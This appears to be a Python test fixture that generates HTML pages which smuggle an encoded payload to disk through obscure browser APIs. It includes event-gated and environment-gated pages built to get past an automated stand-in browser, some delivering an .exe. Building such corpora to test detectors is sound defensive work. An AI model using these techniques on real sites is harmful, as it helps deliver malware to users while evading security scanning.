"""Attached pages whose payload passes through a part of the browser that few pages use, or waits for something that a
reader or a browser does: tricks of somebody who has read the stand-in browser."""

# ruff: noqa: E501  scripts are one line each, as they are mailed

import json
import struct
from collections.abc import Callable
from inspect import isfunction

from tests.pages.smuggling_pages import SAVE, b64, page, script

_SLASH = "<" + chr(92) + "/"


def _code(p: bytes) -> str:
    return f"var s=atob('{b64(p)}');{SAVE}"


def reflect_construct(p: bytes) -> str:
    return script(f"var s=Reflect.apply(atob,null,['{b64(p)}']);" + SAVE)


def async_generator(p: bytes) -> str:
    b = b64(p)
    parts = [b[i : i + 40] for i in range(0, len(b), 40)]
    return script(
        f"async function*g(){{for(const c of {json.dumps(parts)})yield c}}(async()=>{{var t='';for await(const c of g())t+=c;var s=atob(t);{SAVE}}})()"
    )


def symbol_iterator(p: bytes) -> str:
    return script(f"var o={{*[Symbol.iterator](){{yield* '{b64(p)}'}}}};var s=atob([...o].join(''));" + SAVE)


def to_primitive(p: bytes) -> str:
    return script(f"var s=atob({{[Symbol.toPrimitive]:()=>'{b64(p)}'}});" + SAVE)


def tagged_template(p: bytes) -> str:
    return script(f"var f=(x,...y)=>atob(x.raw.join(''));var s=f`{b64(p)}`;" + SAVE)


def weakref_final(p: bytes) -> str:
    return script(f"var w=new WeakRef({{k:'{b64(p)}'}});var s=atob(w.deref().k);" + SAVE)


def contextual_fragment(p: bytes) -> str:
    return script(
        f"document.body.appendChild(document.createRange().createContextualFragment('<script>var s=atob(\"{b64(p)}\");'+{json.dumps(SAVE)}+'</'+'script>'))"
    )


def insert_adjacent(p: bytes) -> str:
    return script(
        f"document.body.insertAdjacentHTML('beforeend','<i data-a=\"{b64(p)}\"></i>');var s=atob(document.body.lastElementChild.dataset.a);"
        + SAVE
    )


def insert_adjacent_img(p: bytes) -> str:
    return script(
        f"document.body.insertAdjacentHTML('afterbegin',`<img src=x onerror='var s=atob(\"{b64(p)}\");{SAVE.replace(chr(39), '&#39;')}'>`)"
    )


def dom_parser(p: bytes) -> str:
    return script(
        f"var d=new DOMParser().parseFromString('<p id=q>{b64(p)}</p>','text/html');var s=atob(d.getElementById('q').textContent);"
        + SAVE
    )


def dom_parser_xml(p: bytes) -> str:
    return script(
        f"var d=new DOMParser().parseFromString('<r><q v=\"{b64(p)}\"/></r>','application/xml');var s=atob(d.querySelector('q').getAttribute('v'));"
        + SAVE
    )


def xslt(p: bytes) -> str:
    return script(
        f'var x=new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><b>{b64(p)}</b></xsl:template></xsl:stylesheet>\',\'text/xml\');var q=new XSLTProcessor();q.importStylesheet(x);var s=atob(q.transformToDocument(document).documentElement.textContent);'
        + SAVE
    )


def search_params(p: bytes) -> str:
    return script(f"var s=atob(new URLSearchParams('a={b64(p).replace('+', '%2B')}').get('a'));" + SAVE)


def url_hash(p: bytes) -> str:
    return script(f"var s=atob(new URL('https://x.example/#{b64(p)}').hash.slice(1));" + SAVE)


def location_hash(p: bytes) -> str:
    return script(f"location.hash='{b64(p)}';setTimeout(()=>{{var s=atob(location.hash.slice(1));{SAVE}}},10)")


def compression_round(p: bytes) -> str:
    return script(
        f"(async()=>{{var c=new Response(new Blob([Uint8Array.from(atob('{b64(p)}'),c=>c.charCodeAt(0))]).stream().pipeThrough(new CompressionStream('gzip')));var b=await new Response((await c.blob()).stream().pipeThrough(new DecompressionStream('gzip'))).blob();var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.bin';a.click()}})()"
    )


def subtle_digest_gate(p: bytes) -> str:
    return script(f"crypto.subtle.digest('SHA-256',new Uint8Array(3)).then(()=>{{var s=atob('{b64(p)}');{SAVE}}})")


def readable_stream(p: bytes) -> str:
    return script(
        f"(async()=>{{var r=new ReadableStream({{start(c){{c.enqueue(Uint8Array.from(atob('{b64(p)}'),c=>c.charCodeAt(0)));c.close()}}}});var b=await new Response(r).blob();var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.bin';a.click()}})()"
    )


def media_source_name(p: bytes) -> str:
    return script(
        f"var b=new File([Uint8Array.from(atob('{b64(p)}'),c=>c.charCodeAt(0))],'i.bin');var a=Object.assign(document.createElement('a'),{{href:webkitURL.createObjectURL(b),download:'i.bin'}});a.dispatchEvent(new MouseEvent('click'))"
    )


def navigator_share(p: bytes) -> str:
    return script(
        f"var f=new File([Uint8Array.from(atob('{b64(p)}'),c=>c.charCodeAt(0))],'i.exe');document.onclick=()=>navigator.share({{files:[f]}})"
    )


def window_open_blob(p: bytes) -> str:
    return script(
        f"var s=atob('{b64(p)}');var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);onclick=()=>window.open(URL.createObjectURL(new Blob([u],{{type:'application/x-msdownload'}})))"
    )


def iframe_blob(p: bytes) -> str:
    return script(
        f"var s=atob('{b64(p)}');var u=Uint8Array.from(s,c=>c.charCodeAt(0));var f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([u],{{type:'application/zip'}}));document.body.append(f)"
    )


def form_download(p: bytes) -> str:
    return page(
        f"<a id=z download=i.bin></a><script>z.href='data:application/octet-stream;base64,{b64(p)}';z.click()</script>"
    )


def before_print(p: bytes) -> str:
    return script(f"addEventListener('beforeprint',()=>{{var s=atob('{b64(p)}');{SAVE}}});print()")


def match_media_print(p: bytes) -> str:
    return script(f"matchMedia('print').addListener(()=>{{var s=atob('{b64(p)}');{SAVE}}})")


def details_toggle(p: bytes) -> str:
    return page(
        f"<details id=d><summary>Open</summary><p>a</p></details><script>d.addEventListener('toggle',()=>{{var s=atob('{b64(p)}');{SAVE}}})</script>"
    )


def dialog_close(p: bytes) -> str:
    return page(
        f"<dialog id=d>Open</dialog><script>d.addEventListener('close',()=>{{var s=atob('{b64(p)}');{SAVE}}});d.showModal()</script>"
    )


def pointer_gated(p: bytes) -> str:
    return script(
        f"addEventListener('pointerenter',e=>{{if(e.isTrusted&&e.pointerType==='mouse'){{var s=atob('{b64(p)}');{SAVE}}}}})"
    )


def key_sequence(p: bytes) -> str:
    return script(
        f"var k='';addEventListener('keydown',e=>{{k+=e.key;if(k.length>3){{var s=atob('{b64(p)}');{SAVE}}}}})"
    )


def key_specific(p: bytes) -> str:
    return script(f"addEventListener('keydown',e=>{{if(e.key==='ArrowRight'){{var s=atob('{b64(p)}');{SAVE}}}}})")


def focus_visibility(p: bytes) -> str:
    return script(
        f"document.addEventListener('visibilitychange',()=>{{if(document.hidden){{var s=atob('{b64(p)}');{SAVE}}}}})"
    )


def wheel_distance(p: bytes) -> str:
    return script(f"var n=0;addEventListener('wheel',e=>{{n+=e.deltaY;if(n>100){{var s=atob('{b64(p)}');{SAVE}}}}})")


def slider_input(p: bytes) -> str:
    return page(
        f"<input type=range id=r min=0 max=100 value=0><script>r.oninput=()=>{{if(+r.value>=90){{var s=atob('{b64(p)}');{SAVE}}}}}</script>"
    )


def checkbox_gate(p: bytes) -> str:
    return page(
        f"<input type=checkbox id=r><script>r.onchange=()=>{{if(r.checked){{var s=atob('{b64(p)}');{SAVE}}}}}</script>"
    )


def code_gate(p: bytes) -> str:
    return page(
        f"<p>Your code: 4711</p><input id=r><button id=g>Go</button><script>g.onclick=()=>{{if(r.value==='4711'){{var s=atob('{b64(p)}');{SAVE}}}}}</script>"
    )


def password_key(p: bytes) -> str:
    k = b"geheim"
    x = bytes(a ^ k[i % 6] for i, a in enumerate(p))
    return page(
        f"<p>Password: geheim</p><input id=r type=password><button id=g>Go</button><script>g.onclick=()=>{{var t=atob('{b64(x)}'),k=r.value,s='';for(var i=0;i<t.length;i++)s+=String.fromCharCode(t.charCodeAt(i)^k.charCodeAt(i%k.length));{SAVE}}}</script>"
    )


def css_attr_content(p: bytes) -> str:
    return page(
        f"<style>#q::before{{content:attr(data-v)}}</style><b id=q data-v='{b64(p)}'></b><script>var c=getComputedStyle(q,'::before').content;var s=atob(c.startsWith('attr')?q.dataset.v:c.replace(/\"/g,''));{SAVE}</script>"
    )


def css_rules(p: bytes) -> str:
    return page(
        f"<style>.k{{background:url(x:{b64(p)})}}</style><script>var c=document.styleSheets[0].cssRules[0].cssText;var s=atob(/x:([\\w+\\/=]+)/.exec(c)[1]);{SAVE}</script>"
    )


def css_font(p: bytes) -> str:
    return page(
        f"<b id=q style='font-family:\"{b64(p)}\"'></b><script>var s=atob(q.style.fontFamily.replace(/[\"']/g,''));{SAVE}</script>"
    )


def animation_event(p: bytes) -> str:
    return page(
        f"<style>@keyframes k{{}}b{{animation:k 1s}}</style><b id=q></b><script>q.addEventListener('animationstart',e=>{{var s=atob('{b64(p)}');{SAVE}}})</script>"
    )


def import_map(p: bytes) -> str:
    return page(
        f'<script type=importmap>{{"imports":{{"k":"data:text/javascript,export default \'{b64(p)}\'"}}}}</script><script type=module>import k from \'k\';var s=atob(k);{SAVE}</script>'
    )


def service_worker_gate(p: bytes) -> str:
    return script(
        f"navigator.serviceWorker.register('sw.js').catch(()=>{{}}).finally(()=>{{var s=atob('{b64(p)}');{SAVE}}})"
    )


def message_channel(p: bytes) -> str:
    return script(
        f"var c=new MessageChannel();c.port1.onmessage=e=>{{var s=atob(e.data);{SAVE}}};c.port2.postMessage('{b64(p)}')"
    )


def broadcast_channel(p: bytes) -> str:
    return script(
        f"var a1=new BroadcastChannel('x'),b1=new BroadcastChannel('x');b1.onmessage=e=>{{var s=atob(e.data);{SAVE}}};a1.postMessage('{b64(p)}')"
    )


def indexed_db(p: bytes) -> str:
    return script(
        f"var r=indexedDB.open('a',1);r.onupgradeneeded=()=>r.result.createObjectStore('k');r.onsuccess=()=>{{var t=r.result.transaction('k','readwrite').objectStore('k');t.put('{b64(p)}',1).onsuccess=()=>{{t.get(1).onsuccess=e=>{{var s=atob(e.target.result);{SAVE}}}}}}}"
    )


def cache_api(p: bytes) -> str:
    return script(
        f"(async()=>{{var c=await caches.open('a');await c.put('/k',new Response('{b64(p)}'));var s=atob(await (await c.match('/k')).text());{SAVE}}})()"
    )


def cookie_store(p: bytes) -> str:
    return script(
        f"document.cookie='k={b64(p).replace('=', '!')}';var s=atob(document.cookie.split('k=')[1].split(';')[0].replace(/!/g,'='));"
        + SAVE
    )


def history_state(p: bytes) -> str:
    return script(f"history.pushState('{b64(p)}','');var s=atob(history.state);" + SAVE)


def window_name(p: bytes) -> str:
    return script(f"window.name='{b64(p)}';var s=atob(self.name);" + SAVE)


def error_stack(p: bytes) -> str:
    return script(f"window.onerror=m=>{{var s=atob(m.split('@')[1]);{SAVE}}};throw new Error('@{b64(p)}@')")


def unhandled_rejection(p: bytes) -> str:
    return script(
        f"addEventListener('unhandledrejection',e=>{{var s=atob(e.reason);{SAVE}}});Promise.reject('{b64(p)}')"
    )


def intl_segmenter(p: bytes) -> str:
    return script(f"var s=atob([...new Intl.Segmenter('en').segment('{b64(p)}')].map(x=>x.segment).join(''));" + SAVE)


def text_encoder_stream(p: bytes) -> str:
    return script(
        f"(async()=>{{var t=await new Response(new Blob(['{b64(p)}']).stream().pipeThrough(new TextDecoderStream())).text();var s=atob(t);{SAVE}}})()"
    )


def uint8_from_base64(p: bytes) -> str:
    return script(
        f"var b=Uint8Array.fromBase64?Uint8Array.fromBase64('{b64(p)}'):null;if(b){{var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='i.bin';a.click()}}"
    )


def from_hex(p: bytes) -> str:
    return script(
        f"var b=Uint8Array.fromHex('{p.hex()}');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='i.bin';a.click()"
    )


def queue_microtask(p: bytes) -> str:
    return script(f"queueMicrotask(()=>{{var s=atob('{b64(p)}');{SAVE}}})")


def scheduler_yield(p: bytes) -> str:
    return script(f"(async()=>{{await scheduler.yield();var s=atob('{b64(p)}');{SAVE}}})()")


def idle_detector(p: bytes) -> str:
    return script(
        f"requestIdleCallback(()=>requestAnimationFrame(()=>setTimeout(()=>{{var s=atob('{b64(p)}');{SAVE}}})))"
    )


def declarative_shadow(p: bytes) -> str:
    return page(
        f"<div id=h><template shadowrootmode=open><i>{b64(p)}</i></template></div><script>var s=atob((h.shadowRoot?h.shadowRoot.querySelector('i'):h.querySelector('template').content.querySelector('i')).textContent);{SAVE}</script>"
    )


def slot_change(p: bytes) -> str:
    return page(
        f"<x-a><b>{b64(p)}</b></x-a><script>customElements.define('x-a',class extends HTMLElement{{connectedCallback(){{var r=this.attachShadow({{mode:'closed'}});r.innerHTML='<slot></slot>';var l=r.querySelector('slot');l.addEventListener('slotchange',()=>{{var s=atob(l.assignedNodes().map(x=>x.textContent).join(''));{SAVE}}})}}}})</script>"
    )


def attribute_observer(p: bytes) -> str:
    return page(
        f"<b id=q></b><script>new MutationObserver(r=>{{var s=atob(r[0].target.getAttribute('k'));{SAVE}}}).observe(q,{{attributes:true}});q.setAttribute('k','{b64(p)}')</script>"
    )


def video_error(p: bytes) -> str:
    return page(f"<video onerror=\"var s=atob('{b64(p)}');{SAVE}\" src=x></video>")


def object_fallback(p: bytes) -> str:
    return page(
        f"<object data='data:text/html;base64,{b64(('<script>var s=atob(`' + b64(p) + '`);' + SAVE + '</script>').encode())}'></object>"
    )


def svg_set(p: bytes) -> str:
    return page(
        f"<svg><a><animate attributeName=href values='javascript:var s=atob(`{b64(p)}`);{SAVE.replace(chr(39), '`').replace(chr(10), '')}'/><text>Open</text></a></svg>"
    )


def math_link(p: bytes) -> str:
    return page(f"<math href=\"javascript:var s=atob('{b64(p)}');{SAVE}\">Open</math>")


def form_action_button(p: bytes) -> str:
    return page(f"<form><button formaction=\"javascript:var s=atob('{b64(p)}');{SAVE}\">Open</button></form>")


def area_link(p: bytes) -> str:
    return page(f"<map><area href=\"javascript:var s=atob('{b64(p)}');{SAVE}\"></map>")


def noscript_text(p: bytes) -> str:
    return page(
        f"<noscript id=n>{b64(p)}</noscript><script>var s=atob(document.getElementById('n').textContent);{SAVE}</script>"
    )


def picture_alt(p: bytes) -> str:
    return page(f"<img id=m alt='{b64(p)}'><script>var s=atob(m.alt);{SAVE}</script>")


def link_title_prefetch(p: bytes) -> str:
    return page(
        f"<script>var s=atob(document.querySelector('link').title);{SAVE}</script>", f"<link rel=x title='{b64(p)}'>"
    )


def meta_content(p: bytes) -> str:
    return page(
        f"<script>var s=atob(document.head.querySelector('meta[name=k]').content);{SAVE}</script>",
        f"<meta name=k content='{b64(p)}'>",
    )


def getter_chain(p: bytes) -> str:
    return script(f"class A{{static #k='{b64(p)}';static get v(){{return atob(A.#k)}}}}var s=A.v;" + SAVE)


def static_block(p: bytes) -> str:
    return script(f"var s;class A{{static{{s=atob('{b64(p)}')}}}}" + SAVE)


def with_scope(p: bytes) -> str:
    return script(f"with({{k:'{b64(p)}'}}){{var s=atob(k)}}" + SAVE)


def label_debugger(p: bytes) -> str:
    return script(f"debugger;var s=atob('{b64(p)}');" + SAVE)


def iframe_atob(p: bytes) -> str:
    return script(
        f"var f=document.createElement('iframe');document.body.append(f);var s=f.contentWindow.atob('{b64(p)}');" + SAVE
    )


def iframe_eval(p: bytes) -> str:
    return script(
        f"var f=document.createElement('iframe');document.body.append(f);f.contentWindow.eval({json.dumps(_code(p))})"
    )


def iframe_srcdoc_set(p: bytes) -> str:
    return script(
        f"var f=document.createElement('iframe');f.srcdoc={json.dumps(f'<script>{_code(p)}</script>').replace('</', _SLASH)};document.body.append(f)"
    )


def frame_document_write(p: bytes) -> str:
    return script(
        f"var f=document.createElement('iframe');document.body.append(f);f.contentDocument.write({json.dumps(f'<script>{_code(p)}</script>').replace('</', _SLASH)})"
    )


def utf16_pairs(p: bytes) -> str:
    q = p + (b"\0" if len(p) % 2 else b"")
    t = "".join(f"\\u{q[i] | q[i + 1] << 8:04x}" for i in range(0, len(q), 2))
    return script(
        f"var t='{t}',s='';for(var i=0;i<t.length;i++)s+=String.fromCharCode(t.charCodeAt(i)&255,t.charCodeAt(i)>>8);s=s.slice(0,{len(p)});"
        + SAVE
    )


def float_array(p: bytes) -> str:
    q = p + bytes(-len(p) % 4)
    n = struct.unpack(f"<{len(q) // 4}I", q)
    return script(
        f"var b=new Blob([new Uint8Array(new Uint32Array({list(n)}).buffer,0,{len(p)})]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='i.bin';a.click()"
    )


def resizable_buffer(p: bytes) -> str:
    return script(
        f"var t=atob('{b64(p)}'),b=new ArrayBuffer(0,{{maxByteLength:1e5}});b.resize(t.length);var u=new Uint8Array(b);for(var i=0;i<t.length;i++)u[i]=t.charCodeAt(i);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='i.bin';a.click()"
    )


def webrtc(p: bytes) -> str:
    return script(f"var c=new RTCPeerConnection();c.createOffer().then(()=>{{var s=atob('{b64(p)}');{SAVE}}})")


def websocket_gate(p: bytes) -> str:
    return script(
        f"var w=new WebSocket('wss://evil.example/');w.onopen=()=>{{var s=atob('{b64(p)}');{SAVE}}};w.onerror=w.onopen"
    )


def event_source(p: bytes) -> str:
    return script(f"var w=new EventSource('https://evil.example/');w.onerror=()=>{{var s=atob('{b64(p)}');{SAVE}}}")


def geolocation_gate(p: bytes) -> str:
    return script(f"navigator.geolocation.getCurrentPosition(g,g);function g(){{var s=atob('{b64(p)}');{SAVE}}}")


def battery_gate(p: bytes) -> str:
    return script(f"navigator.getBattery().then(()=>{{var s=atob('{b64(p)}');{SAVE}}})")


def permission_gate(p: bytes) -> str:
    return script(f"navigator.permissions.query({{name:'notifications'}}).then(r=>{{var s=atob('{b64(p)}');{SAVE}}})")


def storage_estimate(p: bytes) -> str:
    return script(f"navigator.storage.estimate().then(r=>{{if(r.quota>1e6){{var s=atob('{b64(p)}');{SAVE}}}}})")


def user_agent_data(p: bytes) -> str:
    return script(
        f"navigator.userAgentData.getHighEntropyValues(['platform']).then(r=>{{if(/Win/.test(r.platform)){{var s=atob('{b64(p)}');{SAVE}}}}})"
    )


def webgl_gate(p: bytes) -> str:
    return script(
        f"var g=document.createElement('canvas').getContext('webgl');var v=g.getParameter(g.VERSION);if(v){{var s=atob('{b64(p)}');{SAVE}}}"
    )


def origin_private_files(p: bytes) -> str:
    return script(
        f"(async()=>{{var d=await navigator.storage.getDirectory();var h=await d.getFileHandle('i.bin',{{create:true}});var w=await h.createWritable();await w.write(Uint8Array.from(atob('{b64(p)}'),c=>c.charCodeAt(0)));await w.close();var a=document.createElement('a');a.href=URL.createObjectURL(await h.getFile());a.download='i.bin';a.click()}})()"
    )


# What only a style sheet for XML, a password that the page shows, or an animated link gives: such a page is held.
HELD = (xslt, password_key, svg_set)
TRICKS: tuple[Callable[[bytes], str], ...] = tuple(
    each
    for name, each in list(globals().items())
    if isfunction(each) and each.__module__ == __name__ and name[0] != "_" and each not in HELD
)
